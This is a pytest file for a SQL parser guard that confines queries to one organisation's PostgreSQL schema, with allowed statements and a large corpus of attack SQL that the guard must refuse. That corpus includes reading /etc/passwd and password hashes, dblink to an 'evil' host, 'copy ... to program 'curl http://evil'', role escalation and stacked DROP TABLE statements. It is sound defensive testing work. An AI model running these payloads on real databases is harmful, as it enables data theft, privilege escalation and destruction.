"""The SQL channel's parser guard (sql/guard.py, spec §7.6): allowed statements routed to the org schema, an attack
corpus refused, and the rewritten statements run on PostgreSQL."""

from __future__ import annotations

import pickle
import uuid

import pytest
from skillyard.builtin_skills.datatable.sql.guard import check_sql
from skillyard.builtin_skills.datatable.sql.refusal import SqlRefused

S = "org_data_acme"


#: Own-scoped tables of the calling role (§7.2): the SQL channel may not touch them at all.
FORBIDDEN = frozenset({"工资", "secret"})


def query(sql: str, **kw: object):
    return check_sql(sql, schema=S, mode="query", **kw)


def execute(sql: str, **kw: object):
    return check_sql(sql, schema=S, mode="execute", **kw)


ALLOWED_QUERIES: list[tuple[str, str, set[str]]] = [
    ("select * from t", f"SELECT * FROM {S}.t", {"t"}),
    ("SELECT a FROM t;", f"SELECT a FROM {S}.t", {"t"}),
    ("select a -- trailing comment\nfrom /* inline */ t", f"SELECT a FROM {S}.t", {"t"}),
    (
        "select t.a, u.b from t join u on u.t_id = t.id left join v on v.k = u.k where t.a > 1",
        f"SELECT t.a, u.b FROM {S}.t INNER JOIN {S}.u ON u.t_id = t.id LEFT JOIN {S}.v ON v.k = u.k WHERE t.a > 1",
        {"t", "u", "v"},
    ),
    (
        'select "名称", sum("金额") as "合计" from "订单" group by "名称" having sum("金额") > 100 '
        "order by 2 desc limit 10",
        f'SELECT "名称", sum("金额") AS "合计" FROM {S}."订单" GROUP BY "名称" HAVING sum("金额") > 100 '
        "ORDER BY 2 DESC LIMIT 10",
        {"订单"},
    ),
    (
        "select 名称, 数量 from 库存 where 数量 < 10",
        f'SELECT "名称", "数量" FROM {S}."库存" WHERE "数量" < 10',
        {"库存"},
    ),
    (
        "with big as (select * from t where a > 1), agg as (select k, count(*) n from big group by k) "
        "select * from agg join u using (k)",
        f"WITH big AS (SELECT * FROM {S}.t WHERE a > 1), agg AS (SELECT k, count(*) AS n FROM big GROUP BY k) "
        f"SELECT * FROM agg INNER JOIN {S}.u USING (k)",
        {"t", "u"},
    ),
    (
        "with recursive r(n) as (select 1 union all select n + 1 from r where n < 10) select * from r",
        "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 10) SELECT * FROM r",
        set(),
    ),
    (
        "select a, row_number() over (partition by b order by c desc), lag(a) over w, "
        "sum(a) over (order by c rows between 2 preceding and current row) from t window w as (order by c)",
        f"SELECT a, row_number() OVER (PARTITION BY b ORDER BY c DESC), lag(a) OVER w, "
        f"sum(a) OVER (ORDER BY c ROWS BETWEEN 2 PRECEDING AND CURRENT ROW) FROM {S}.t WINDOW w AS (ORDER BY c)",
        {"t"},
    ),
    (
        "select count(*) filter (where a > 1), percentile_cont(0.5) within group (order by a), "
        "string_agg(b, ',' order by b), array_agg(distinct b) from t",
        f"SELECT count(*) FILTER (WHERE a > 1), percentile_cont(0.5) WITHIN GROUP (ORDER BY a), "
        f"string_agg(b, ',' ORDER BY b), array_agg(DISTINCT b) FROM {S}.t",
        {"t"},
    ),
    (
        "select * from t where a in (select a from u where u.b = t.b) and exists (select 1 from v where v.a = t.a)",
        f"SELECT * FROM {S}.t WHERE a IN (SELECT a FROM {S}.u WHERE u.b = t.b) "
        f"AND EXISTS (SELECT 1 FROM {S}.v WHERE v.a = t.a)",
        {"t", "u", "v"},
    ),
    (
        "select s.k, l.n from (select k from t) s, lateral (select count(*) n from u where u.k = s.k) l",
        f"SELECT s.k, l.n FROM (SELECT k FROM {S}.t) AS s, LATERAL (SELECT count(*) AS n FROM {S}.u "
        "WHERE u.k = s.k) AS l",
        {"t", "u"},
    ),
    (
        "select a from t union select a from u order by 1",
        f"SELECT a FROM {S}.t UNION SELECT a FROM {S}.u ORDER BY 1",
        {"t", "u"},
    ),
    (
        "select coalesce(a, 0), nullif(b, ''), greatest(a, 1), case when a > 0 then 'pos' else 'neg' end from t",
        f"SELECT COALESCE(a, 0), NULLIF(b, ''), GREATEST(a, 1), CASE WHEN a > 0 THEN 'pos' ELSE 'neg' END FROM {S}.t",
        {"t"},
    ),
    (
        "select extract(year from d), date_trunc('month', d), d::date, cast(a as numeric(18,2)), "
        "current_date - interval '7 days', now() from t",
        f"SELECT EXTRACT(YEAR FROM d), date_trunc('month', d), CAST(d AS date), CAST(a AS numeric(18, 2)), "
        f"CURRENT_DATE - CAST('7 days' AS interval), now() FROM {S}.t",
        {"t"},
    ),
    (
        "select lower(b), upper(b), length(b), substring(b from 1 for 3), trim(b), replace(b, 'a', 'b'), "
        "concat_ws('-', a, b), split_part(b, ',', 1), to_char(d, 'YYYY-MM'), round(a, 2), abs(a) from t",
        f"SELECT lower(b), upper(b), length(b), pg_catalog.substring(b, 1, 3), pg_catalog.btrim(b), "
        f"replace(b, 'a', 'b'), concat_ws('-', a, b), split_part(b, ',', 1), to_char(d, 'YYYY-MM'), round(a, 2), "
        f"abs(a) FROM {S}.t",
        {"t"},
    ),
    (
        "select b from t where b like '%x%' and b ilike 'a%' and b ~ '^a' and a between 1 and 5 and c is not null",
        f"SELECT b FROM {S}.t WHERE b LIKE '%x%' AND b ILIKE 'a%' AND b ~ '^a' AND a BETWEEN 1 AND 5 AND c IS NOT NULL",
        {"t"},
    ),
    ("select * from t tablesample bernoulli (10)", f"SELECT * FROM {S}.t TABLESAMPLE bernoulli(10)", {"t"}),
    (
        "select u.v, t.a from t, unnest(array['a']) as u(v), rows from (abs(1) as (n int)) r where r.n = 1",
        f"SELECT u.v, t.a FROM {S}.t, unnest(ARRAY['a']) AS u (v), ROWS FROM (abs(1) AS (n integer)) AS r "
        "WHERE r.n = 1",
        {"t"},
    ),
    (
        "select k, v from unnest(array['a', 'b']) with ordinality as x(k, v)",
        "SELECT k, v FROM unnest(ARRAY['a', 'b']) WITH ORDINALITY AS x (k, v)",
        set(),
    ),
    ("values (1, 'a'), (2, 'b')", "VALUES (1, 'a'), (2, 'b')", set()),
    ("table t", f"SELECT * FROM {S}.t", {"t"}),
    ("select 1", "SELECT 1", set()),
    (f"select * from {S}.t", f"SELECT * FROM {S}.t", {"t"}),
    (f"select {S}.t.a from {S}.t", f"SELECT {S}.t.a FROM {S}.t", {"t"}),
    (f'select * from "{S}"."表"', f'SELECT * FROM {S}."表"', {"表"}),
    (
        "select a from t group by rollup (a), cube (b) having grouping(a) = 0",
        f"SELECT a FROM {S}.t GROUP BY ROLLUP (a), CUBE (b) HAVING  GROUPING(a) = 0",
        {"t"},
    ),
    (
        "select distinct on (a) a, b from t order by a, b",
        f"SELECT DISTINCT ON (a) a, b FROM {S}.t ORDER BY a, b",
        {"t"},
    ),
    ('select "Mixed Case" from "Mixed Case"', f'SELECT "Mixed Case" FROM {S}."Mixed Case"', {"Mixed Case"}),
    ("select t.raw_json, t.名称 from t", f'SELECT t.raw_json, t."名称" FROM {S}.t', {"t"}),
    (
        "select x::json ->> 'k' from t",  # json (not jsonb) is allowed in casts, to read JSON kept in text
        f"SELECT CAST(x AS pg_catalog.json) ->> 'k' FROM {S}.t",
        {"t"},
    ),
]


ALLOWED_EXECUTE: list[tuple[str, str, str, set[str], str | None]] = [
    (
        "insert into t (a, b) values (1, 'x'), (2, default)",
        "insert",
        f"INSERT INTO {S}.t (a, b) VALUES (1, 'x'), (2, DEFAULT)",
        {"t"},
        None,
    ),
    (
        'insert into "客户" ("名称", "备注") values (\'甲\', \'{"value":0.85}\') returning id, "名称"',
        "insert",
        f'INSERT INTO {S}."客户" ("名称", "备注") VALUES (\'甲\', \'{{"value":0.85}}\') RETURNING id, "名称"',
        {"客户"},
        None,
    ),
    (
        "insert into t (a) select a from u where u.b > 1",
        "insert",
        f"INSERT INTO {S}.t (a) SELECT a FROM {S}.u WHERE u.b > 1",
        {"t", "u"},
        None,
    ),
    (
        "insert into t (k, n) values ('a', 1) on conflict (k) do update set n = t.n + excluded.n returning *",
        "insert",
        f"INSERT INTO {S}.t (k, n) VALUES ('a', 1) ON CONFLICT (k) DO UPDATE SET n = t.n + excluded.n RETURNING *",
        {"t"},
        None,
    ),
    (
        "insert into t (k) values ('a') on conflict do nothing",
        "insert",
        f"INSERT INTO {S}.t (k) VALUES ('a') ON CONFLICT DO NOTHING",
        {"t"},
        None,
    ),
    ("insert into t default values", "insert", f"INSERT INTO {S}.t DEFAULT VALUES", {"t"}, None),
    (
        "with src as (select k from u where u.n > 0) insert into t (k) select k from src",
        "insert",
        f"WITH src AS (SELECT k FROM {S}.u WHERE u.n > 0) INSERT INTO {S}.t (k) SELECT k FROM src",
        {"t", "u"},
        None,
    ),
    (
        "update t set a = a + 1, b = 'x:y' where id = 5 returning *",
        "update",
        f"UPDATE {S}.t SET a = a + 1, b = 'x:y' WHERE id = 5 RETURNING *",
        {"t"},
        None,
    ),
    (
        "update t set n = u.n from u where u.k = t.k",
        "update",
        f"UPDATE {S}.t SET n = u.n FROM {S}.u WHERE u.k = t.k",
        {"t", "u"},
        None,
    ),
    (
        'update "库存" set "数量" = "数量" - 1 where "名称" = \'螺丝\'',
        "update",
        f'UPDATE {S}."库存" SET "数量" = "数量" - 1 WHERE "名称" = \'螺丝\'',
        {"库存"},
        None,
    ),
    ("delete from t where id in (1, 2, 3)", "delete", f"DELETE FROM {S}.t WHERE id IN (1, 2, 3)", {"t"}, None),
    (
        "delete from t using u where u.k = t.k and u.gone returning t.id",
        "delete",
        f"DELETE FROM {S}.t USING {S}.u WHERE u.k = t.k AND u.gone RETURNING t.id",
        {"t", "u"},
        None,
    ),
    (
        "delete from t where created_at < now() - interval '30 days'",
        "delete",
        f"DELETE FROM {S}.t WHERE created_at < now() - CAST('30 days' AS interval)",
        {"t"},
        None,
    ),
    (
        'create table "客户" ("名称" text not null, "金额" numeric(18,2) default 0 check ("金额" >= 0), '
        '"编号" varchar(20) unique, "日期" date, "备注" text default \'[]\', '
        'constraint "名称日期" unique ("名称", "日期"))',
        "create_table",
        f'CREATE TABLE {S}."客户" ("名称" text NOT NULL, "金额" numeric(18, 2) DEFAULT 0 CHECK ("金额" >= 0), '
        '"编号" varchar(20) UNIQUE, "日期" date, "备注" text DEFAULT \'[]\', '
        'CONSTRAINT "名称日期" UNIQUE ("名称", "日期"))',
        {"客户"},
        "客户",
    ),
    (
        "create table if not exists t2 (a int, b bigint, c double precision, d boolean, e timestamptz, f uuid)",
        "create_table",
        f"CREATE TABLE IF NOT EXISTS {S}.t2 (a integer, b bigint, c double precision, d boolean, "
        "e timestamptz, f uuid)",
        {"t2"},
        "t2",
    ),
    ('create index on "客户" ("名称")', "create_index", f'CREATE INDEX ON {S}."客户" ("名称")', {"客户"}, "客户"),
    (
        "create unique index if not exists idx_k on t using btree (lower(k), d desc) where n > 0",
        "create_index",
        f"CREATE UNIQUE INDEX IF NOT EXISTS idx_k ON {S}.t ((lower(k)), d DESC) WHERE n > 0",
        {"t"},
        "t",
    ),
    (
        'create or replace view "客户汇总" ("名称", "合计") as select "名称", sum("金额") from "客户" group by 1',
        "create_view",
        f'CREATE OR REPLACE VIEW {S}."客户汇总" ("名称", "合计") AS SELECT "名称", sum("金额") '
        f'FROM {S}."客户" GROUP BY 1',
        {"客户汇总", "客户"},
        "客户汇总",
    ),
    (
        "create view v as with x as (select * from t) select * from x join u using (k)",
        "create_view",
        f"CREATE VIEW {S}.v AS WITH x AS (SELECT * FROM {S}.t) SELECT * FROM x INNER JOIN {S}.u USING (k)",
        {"v", "t", "u"},
        "v",
    ),
]


Q, X = "query", "execute"


LONG = "表" * 22  # 66 bytes: PostgreSQL would silently cut it to 21 characters


ATTACKS: list[tuple[str, str, str]] = [
    # -- other schemas -------------------------------------------------------------------------------------------------
    (Q, "select * from public.t", "schema"),
    (Q, "select * from org_data_other.t", "schema"),
    (Q, 'select * from "ORG_DATA_ACME".t', "schema"),
    (Q, "select * from pg_temp.t", "schema"),
    (Q, "select * from postgres.org_data_acme.t", "schema"),
    (Q, "select * from t join org_data_other.t o on o.id = t.id", "schema"),
    (Q, "select * from t where a in (select a from org_data_other.t)", "schema"),
    (Q, "select public.t.a from t", "schema"),
    (X, "insert into public.t (a) values (1)", "schema"),
    (X, "update org_data_other.t set a = 1 where id = 1", "schema"),
    (X, "delete from org_data_other.t where id = 1", "schema"),
    (X, "insert into t (a) select a from org_data_other.t", "schema"),
    (X, "create table public.x (a text)", "schema"),
    (X, "create table org_data_other.x (a text)", "schema"),
    (X, "create index on org_data_other.t (a)", "schema"),
    (X, "create view public.v as select 1 as a", "schema"),
    # -- catalogs, qualified or reached implicitly ---------------------------------------------------------------------
    (Q, "select * from pg_catalog.pg_class", "schema"),
    (Q, "select * from information_schema.tables", "schema"),
    (Q, "select * from information_schema.columns where table_schema = 'org_data_other'", "schema"),
    (Q, "select * from pg_tables", "schema"),
    (Q, "select rolname, rolpassword from pg_roles", "schema"),
    (Q, "select * from pg_stat_activity", "schema"),
    (Q, "select * from pg_settings", "schema"),
    (Q, "select * from pg_authid", "schema"),
    (Q, "select * from PG_USER", "schema"),
    (Q, 'select * from "pg_namespace"', "schema"),
    (Q, 'select * from "PG_CATALOG"."pg_class"', "schema"),
    (Q, 'select * from "pg_catalog".pg_proc', "schema"),
    (Q, 'select * from U&"\\0070g_catalog".pg_class', "schema"),
    (Q, 'select * from U&"pg\\005froles"', "schema"),
    (Q, "select * from pg_/**/tables", "schema"),
    (Q, "select (select string_agg(datname, ',') from pg_database)", "schema"),
    (Q, "select * from t where a = any (select usename from pg_user)", "schema"),
    (Q, "with pg_roles as (select 1) select * from pg_roles", "schema"),
    (X, "create view v as select * from pg_roles", "schema"),
    (X, "insert into t (a) select relname from pg_class", "schema"),
    # -- functions -----------------------------------------------------------------------------------------------------
    (Q, "select pg_sleep(10)", "function"),
    (Q, "select pg_catalog.pg_sleep(10)", "function"),
    (Q, "select pg_read_file('/etc/passwd')", "function"),
    (Q, "select pg_ls_dir('.')", "function"),
    (Q, "select lo_import('/etc/passwd')", "function"),
    (Q, "select lo_export(1, '/tmp/x')", "function"),
    (Q, "select * from dblink('host=evil', 'select 1') as x(a int)", "function"),
    (Q, "select dblink_exec('host=evil', 'drop table t')", "function"),
    (Q, "select set_config('search_path', 'public', false)", "function"),
    (Q, "select current_setting('is_superuser')", "function"),
    (Q, "select pg_advisory_lock(1)", "function"),
    (Q, "select pg_try_advisory_xact_lock(1)", "function"),
    (Q, "select pg_terminate_backend(pid) from t", "function"),
    (Q, "select pg_reload_conf()", "function"),
    (Q, "select txid_current()", "function"),
    (Q, "select version()", "function"),
    (Q, "select current_database()", "function"),
    (Q, "select current_user", "function"),
    (Q, "select session_user", "function"),
    (Q, "select current_schema", "function"),
    (Q, "select system_user", "function"),
    (Q, "select query_to_xml('select * from pg_authid', true, true, '')", "function"),
    (Q, "select nextval('t_id_seq')", "function"),
    (Q, "select pg_notify('c', 'x')", "function"),
    (Q, "select * from generate_series(1, 1000000000)", "function"),
    (Q, "select generate_series(1, 1e9)", "function"),
    (Q, "select public.evil()", "schema"),
    (Q, "select org_data_acme.f()", "schema"),
    (Q, 'select "PG_SLEEP"(1)', "function"),
    (Q, 'select "pg_sleep"(1)', "function"),
    (Q, "select t.row_to_json from t", "function"),
    (Q, "select (t).pg_column_size from t", "function"),
    (Q, "select * from t, lateral rows from (pg_sleep(1))", "function"),
    # field notation calls any one-argument function on a value that is not a row: (x).f, and f on a FROM function
    (Q, "select ('select 1').ts_stat", "function"),
    (Q, "select ('is_superuser'::text).current_setting", "function"),
    (Q, "select (a).to_regclass from t", "function"),
    (Q, "select u.current_setting from unnest(array['x']) u", "function"),
    (Q, "select unnest.to_regclass from unnest(array['x'])", "function"),
    (Q, "select f.lo_creat from abs(1) as f(n)", "function"),
    (X, "create index _dt_grants on t (a)", "forbidden_table"),
    (X, "create index pg_x on t (a)", "schema"),
    (Q, "select * from t tablesample system_rows(10)", "function"),
    (X, "insert into t (a) values (pg_sleep(1))", "function"),
    (X, "update t set a = current_setting('x') where id = 1", "function"),
    (X, "create table x (a text default current_user)", "function"),
    (X, "create table x (a bigint default nextval('s'))", "function"),
    (X, "create index on t (pg_sleep(1))", "function"),
    # -- operators and collations in other schemas ---------------------------------------------------------------------
    (Q, "select * from t where a operator(public.=) 1", "schema"),
    (Q, "select * from t order by a using operator(public.<)", "schema"),
    (Q, "select * from t where a operator(public.=) any (select 1)", "schema"),
    (Q, "select a collate public.evil from t", "schema"),
    # -- types: reg*, oid, jsonb, serial -------------------------------------------------------------------------------
    (Q, "select 'pg_class'::regclass", "type"),
    (Q, "select cast('pg_sleep' as regproc)", "type"),
    (Q, "select 'x'::pg_catalog.regtype", "type"),
    (Q, "select regnamespace 'public'", "type"),
    (Q, "select 1::oid", "type"),
    (Q, "select 'x'::public.mytype", "schema"),
    (Q, "select x::jsonb from t", "jsonb"),
    (Q, "select cast(x as jsonb) from t", "jsonb"),
    (Q, "select jsonb '{}'", "jsonb"),
    (Q, "select '{}'::json::jsonb", "jsonb"),
    (Q, "select x::pg_catalog.jsonb[] from t", "jsonb"),
    (Q, "select jsonb_build_object('a', 1)", "jsonb"),
    (Q, "select to_jsonb(t) from t", "jsonb"),
    # -- statement stacking and comments -------------------------------------------------------------------------------
    (Q, "SELECT 1; COMMIT; DROP TABLE x", "multiple_statements"),
    (Q, "select 1; select 2", "multiple_statements"),
    (Q, "select 1; /* */ drop table t", "multiple_statements"),
    (Q, "select 1 -- \n; drop table t", "multiple_statements"),
    (Q, "select $a$ $$ $a$; drop table t", "multiple_statements"),
    (Q, "select ';' ; delete from t", "multiple_statements"),
    (X, "delete from t where id = 1; delete from u where id = 2", "multiple_statements"),
    (Q, "DR/**/OP TABLE t", "parse_error"),
    (Q, "-- select 1", "parse_error"),
    (Q, "", "parse_error"),
    (X, "--\ndrop table t", "statement"),
    # -- transaction control -------------------------------------------------------------------------------------------
    (X, "begin", "transaction"),
    (X, "commit", "transaction"),
    (X, "rollback", "transaction"),
    (X, "savepoint s", "transaction"),
    (X, "start transaction read write", "transaction"),
    (X, "prepare transaction 'x'", "transaction"),
    # -- CTEs that write -----------------------------------------------------------------------------------------------
    (Q, "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", "cte_write"),
    (Q, "with u as (update t set a = 1 where id = 1 returning *) select 1", "cte_write"),
    (Q, "with i as (insert into t (a) values (1) returning *) select * from i", "cte_write"),
    (Q, "select * from (with d as (delete from t where id = 1 returning *) select * from d) s", "cte_write"),
    (X, "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", "cte_write"),
    (X, "with d as (delete from t where a = 1 returning *) insert into u (a) select a from d", "cte_write"),
    (
        X,
        "with d as (delete from u where a = 1 returning a) update t set a = 0 where a in (select a from d)",
        "cte_write",
    ),
    (X, "create view v as with d as (delete from t where a = 1 returning *) select * from d", "cte_write"),
    # -- SELECT INTO and locking ---------------------------------------------------------------------------------------
    (Q, "select * into stolen from t", "select_into"),
    (Q, "select * into temp x from t", "select_into"),
    (X, "select * into stolen from t", "select_into"),
    (Q, "select * from t for update", "locking"),
    (Q, "select * from t for share", "locking"),
    (Q, "select * from t for no key update skip locked", "locking"),
    (Q, "select * from (select * from t for update) s", "locking"),
    (X, "insert into t (a) select a from u for key share", "locking"),
    # -- statements that are not on the list ---------------------------------------------------------------------------
    (X, "lock table t in access exclusive mode", "statement"),
    (X, "copy t to program 'curl http://evil'", "statement"),
    (X, "copy (select * from t) to '/tmp/x'", "statement"),
    (X, "copy t from stdin", "statement"),
    (X, "do $$ begin perform pg_sleep(10); end $$", "statement"),
    (X, "call p()", "statement"),
    (X, "set role postgres", "statement"),
    (X, "set session authorization postgres", "statement"),
    (X, "set local statement_timeout = 0", "statement"),
    (X, "set search_path = public", "statement"),
    (X, "reset all", "statement"),
    (X, "reset role", "statement"),
    (Q, "show search_path", "statement"),
    (X, "create function f() returns int language sql as 'select 1'", "statement"),
    (X, "create role evil superuser", "statement"),
    (X, "create extension dblink", "statement"),
    (X, "create schema evil", "statement"),
    (X, "create sequence s", "statement"),
    (X, "create type mood as enum ('a')", "statement"),
    (X, "create trigger tr before insert on t for each row execute function f()", "statement"),
    (X, "create rule r as on insert to t do instead nothing", "statement"),
    (X, "create materialized view mv as select * from t", "statement"),
    (X, "create table x as select * from t", "statement"),
    (X, "alter table t add column b text", "statement"),
    (X, "alter table t rename to u", "statement"),
    (X, "alter role postgres password 'x'", "statement"),
    (X, "drop table t", "statement"),
    (X, "drop view v cascade", "statement"),  # DROP VIEW by name is allowed (owner/admin); CASCADE is not
    (X, "drop materialized view v", "statement"),
    (X, "truncate t", "statement"),
    (X, "grant all on t to public", "statement"),
    (X, "revoke all on t from public", "statement"),
    (X, "vacuum full t", "statement"),
    (X, "analyze t", "statement"),
    (Q, "explain analyze select * from t", "statement"),
    (X, "explain analyze delete from t where id = 1", "statement"),
    (X, "listen c", "statement"),
    (X, "notify c, 'x'", "statement"),
    (X, "prepare p as select * from t", "statement"),
    (X, "execute p", "statement"),
    (X, "deallocate all", "statement"),
    (X, "declare c cursor for select * from t", "statement"),
    (X, "fetch all from c", "statement"),
    (X, "discard all", "statement"),
    (X, "checkpoint", "statement"),
    (X, "load 'plpgsql'", "statement"),
    (X, "comment on table t is 'x'", "statement"),
    (X, "refresh materialized view mv", "statement"),
    (X, "reindex table t", "statement"),
    (X, "merge into t using u on t.k = u.k when matched then delete", "statement"),
    (X, "create temp table x (a text)", "statement"),
    (X, "create unlogged table x (a text)", "statement"),
    (X, "create table x (a text) with (fillfactor = 10)", "statement"),
    (X, "create table x (a text) tablespace pg_global", "statement"),
    (X, "create table x (a text) inherits (t)", "statement"),
    (X, "create table x (a text) partition by list (a)", "statement"),
    (X, "create index concurrently on t (a)", "statement"),
    (X, "create index on t (a) tablespace pg_global", "statement"),
    (X, "create index on t using bloom (a)", "statement"),
    (X, "create temp view v as select 1 as a", "statement"),
    (X, "create view v with (security_barrier) as select a from t", "statement"),
    # -- node types outside the allow-list -----------------------------------------------------------------------------
    (Q, "select xmlparse(document '<a/>')", "node"),
    (Q, "select * from t where x is json", "node"),
    (Q, "select json_value(x, '$.a') from t", "node"),
    (Q, "select * from json_table('[1]', '$[*]' columns (a int path '$')) j", "node"),
    (Q, "select * from xmltable('/a' passing '<a/>' columns b text) x", "node"),
    (X, "create table x (like t)", "node"),
    # -- bind parameters -----------------------------------------------------------------------------------------------
    (Q, "select * from t where a = $1", "parameter"),
    (X, "update t set a = $2 where id = $1", "parameter"),
    # -- UPDATE / DELETE without a real WHERE --------------------------------------------------------------------------
    (X, "update t set a = 1", "where_required"),
    (X, "delete from t", "where_required"),
    (X, "delete from t where true", "where_required"),
    (X, "delete from t where 1 = 1", "where_required"),
    (X, "update t set a = 1 where exists (select 1)", "where_required"),
    (X, "delete from t where current of c", "where_required"),
    # -- id / created_at / PRIMARY KEY / serial ------------------------------------------------------------------------
    (X, "create table x (id int, a text)", "reserved_column"),
    (X, 'create table x ("ID" bigint, a text)', "reserved_column"),
    (X, "create table x (created_at timestamptz)", "reserved_column"),
    (X, "create table x (a text primary key)", "reserved_column"),
    (X, "create table x (a text, b text, primary key (a, b))", "reserved_column"),
    (X, "create table x (a serial)", "reserved_column"),
    (X, "create table x (a bigserial)", "reserved_column"),
    (X, "create table x (a int generated always as identity)", "reserved_column"),
    (X, "insert into t (id, a) values (1, 'x')", "reserved_column"),
    (X, "insert into t (a, created_at) values ('x', now())", "reserved_column"),
    (X, "insert into t values (1, 'x')", "reserved_column"),
    (X, "insert into t select * from u", "reserved_column"),
    (X, "insert into t (id) overriding system value values (1)", "reserved_column"),
    (X, "update t set id = 2 where id = 1", "reserved_column"),
    (X, "update t set (a, created_at) = ('x', now()) where id = 1", "reserved_column"),
    (X, "insert into t (k) values (1) on conflict (k) do update set id = 5", "reserved_column"),
    # -- CREATE TABLE shapes -------------------------------------------------------------------------------------------
    (X, "create table x (a jsonb)", "jsonb"),
    (X, "create table x (a jsonb[])", "jsonb"),
    (X, "create table x (a json)", "jsonb"),
    (X, "create table x (a text default '[]'::jsonb)", "jsonb"),
    (X, "create table x (a int references t (k))", "constraint"),
    (X, "create table x (a int, foreign key (a) references t (k))", "constraint"),
    (X, "create table x (a int, exclude using gist (a with =))", "constraint"),
    (X, "create table x (a int, b int generated always as (a * 2) stored)", "constraint"),
    (X, "create table x (a regclass)", "type"),
    (X, "create table x (a bytea)", "type"),
    (X, 'create table "容差%" (a text)', "identifier"),
    (X, 'create table x ("容差%" numeric)', "identifier"),
    (X, 'create table "1表" (a text)', "identifier"),
    (X, "create table x (" + "a" * 51 + " text)", "identifier"),
    (X, f'create table "{LONG}" (a text)', "identifier"),
    (Q, f'select * from "{LONG}"', "identifier"),
    (X, "create table pg_evil (a text)", "schema"),
    # -- system columns ------------------------------------------------------------------------------------------------
    (Q, "select ctid, * from t", "system_column"),
    (Q, "select t.xmin from t", "system_column"),
    (Q, "select * from t where tableoid > 0", "system_column"),
    (X, "delete from t where ctid = '(0,1)'", "system_column"),
    (X, "insert into t (a) values (1) returning xmax", "system_column"),
    # -- own-scoped (forbidden) tables, however they are reached -------------------------------------------------------
    (Q, "select * from secret", "forbidden_table"),
    (Q, 'select * from "工资"', "forbidden_table"),
    (Q, f"select * from {S}.secret", "forbidden_table"),
    (Q, "select * from t join secret s on s.id = t.id", "forbidden_table"),
    (Q, "select * from t where id in (select id from secret)", "forbidden_table"),
    (Q, "select (select max(a) from 工资) from t", "forbidden_table"),
    (Q, "with s as (select * from secret) select * from s", "forbidden_table"),
    (Q, "select * from t, lateral (select * from secret where secret.k = t.k) x", "forbidden_table"),
    (Q, "select a from t union select a from secret", "forbidden_table"),
    (Q, "with secret as (select 1) select * from secret", "forbidden_table"),
    (X, "create view v as select * from secret", "forbidden_table"),
    (X, "create index on secret (a)", "forbidden_table"),
    (X, "insert into secret (a) values (1)", "forbidden_table"),
    (X, "insert into t (a) select a from secret", "forbidden_table"),
    (X, "update t set a = s.a from secret s where s.k = t.k", "forbidden_table"),
    (X, "delete from t using 工资 g where g.k = t.k", "forbidden_table"),
    (X, "update secret set a = 1 where id = 1", "forbidden_table"),
]


@pytest.mark.parametrize(("sql", "rewritten", "tables"), ALLOWED_QUERIES, ids=range(len(ALLOWED_QUERIES)))
def test_allowed_queries_are_routed(sql: str, rewritten: str, tables: set[str]) -> None:
    checked = query(sql, forbidden_tables=FORBIDDEN)
    assert checked.kind == "select"
    assert checked.sql == rewritten
    assert checked.tables == tables
    assert checked.created is None
    # The routed text is itself accepted, unchanged: routing is a fixpoint.
    assert query(checked.sql).sql == checked.sql


@pytest.mark.parametrize(
    ("sql", "kind", "rewritten", "tables", "created"), ALLOWED_EXECUTE, ids=range(len(ALLOWED_EXECUTE))
)
def test_allowed_writes_are_routed(sql: str, kind: str, rewritten: str, tables: set[str], created: str | None) -> None:
    checked = execute(sql, forbidden_tables=FORBIDDEN)
    assert (checked.kind, checked.sql, checked.tables, checked.created) == (kind, rewritten, tables, created)
    assert execute(checked.sql).sql == checked.sql


def test_routing_rewrites_the_tree_not_the_text() -> None:
    checked = query("select 'select * from t' as t, t.t from t where t.t <> 'from t'")
    assert checked.sql == f"SELECT 'select * from t' AS t, t.t FROM {S}.t WHERE t.t <> 'from t'"


def test_cte_names_are_not_tables_but_a_cte_does_not_see_itself() -> None:
    # Non-recursive: inside its own body "a" is the table a; outside it is the CTE.
    checked = query("with a as (select * from a) select * from a")
    assert checked.sql == f"WITH a AS (SELECT * FROM {S}.a) SELECT * FROM a"
    assert checked.tables == {"a"}
    # A CTE sees the CTEs before it, not the ones after it.
    checked = query("with x as (select * from y), y as (select * from x) select * from y")
    assert checked.sql == f"WITH x AS (SELECT * FROM {S}.y), y AS (SELECT * FROM x) SELECT * FROM y"
    # A CTE name does not leak out of the subquery that defines it.
    checked = query("select * from (with c as (select 1) select * from c) s, c")
    assert checked.sql == f"SELECT * FROM (WITH c AS (SELECT 1) SELECT * FROM c) AS s, {S}.c"
    # The target of a write is always a table, even when a CTE has its name.
    checked = execute("with t as (select 1 as k) delete from t where k in (select k from t)")
    assert checked.sql == f"WITH t AS (SELECT 1 AS k) DELETE FROM {S}.t WHERE k IN (SELECT k FROM t)"


@pytest.mark.spec("§7.6.3")
def test_colons_in_literals_are_plain_text() -> None:
    # Spec §7.6.3: '"value":0.85' broke the old bind-parameter parsing. The guard sends no parameters at all.
    checked = execute("""insert into t (j, k) values ('{"value":0.85,"at":"10:30"}', ':name')""")
    assert """'{"value":0.85,"at":"10:30"}'""" in checked.sql
    assert "':name'" in checked.sql
    assert query("select 'a::b', 'x:1' from t").sql == f"SELECT 'a::b', 'x:1' FROM {S}.t"


def test_dollar_quoted_and_escaped_literals_stay_literals() -> None:
    assert query("select $x$; drop table t; $x$").sql == "SELECT '; drop table t; '"
    assert query("select e'\\x41'").sql == "SELECT 'A'"


def test_forbidden_tables_only_block_themselves() -> None:
    assert query("select * from t join u using (k)", forbidden_tables=FORBIDDEN).tables == {"t", "u"}
    assert query("select secret from t", forbidden_tables=FORBIDDEN).tables == {"t"}  # a column of that name is fine


def test_mode_decides_what_runs() -> None:
    with pytest.raises(SqlRefused) as info:
        execute("select * from t")
    assert info.value.code == "statement"
    assert "sql_query" in info.value.reason
    for write in ("insert into t (a) values (1)", "delete from t where a = 1", "create table x (a text)"):
        with pytest.raises(SqlRefused) as info:
            query(write)
        assert info.value.code == "statement"
        assert "sql_execute" in info.value.reason


def test_interface() -> None:
    with pytest.raises(SqlRefused) as info:
        query("select pg_sleep(10)")
    assert isinstance(info.value, ValueError)
    assert info.value.code == "function"
    assert "pg_sleep" in info.value.reason
    assert str(info.value) == info.value.reason
    copy = pickle.loads(pickle.dumps(info.value))
    assert (copy.code, copy.reason) == (info.value.code, info.value.reason)
    with pytest.raises(ValueError, match="mode") as bad:
        check_sql("select 1", schema=S, mode="write")
    assert not isinstance(bad.value, SqlRefused)
